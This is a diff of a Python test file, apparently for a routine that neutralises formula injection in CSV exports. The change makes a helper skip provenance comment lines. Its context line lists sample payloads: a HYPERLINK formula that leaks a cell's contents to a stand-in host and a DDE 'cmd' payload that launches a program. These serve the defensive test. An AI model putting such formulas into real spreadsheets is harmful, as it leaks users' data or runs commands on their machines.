@@ -18,7 +18,9 @@ EVIL = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(
 
 
 def _cells(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text)))
+    """The CSV's rows after its ``# key: value`` provenance lines."""
+    body = "".join(line for line in io.StringIO(text, newline="") if not line.startswith("# "))
+    return list(csv.reader(io.StringIO(body)))
 
 
 def test_neutralise_cell_rule():
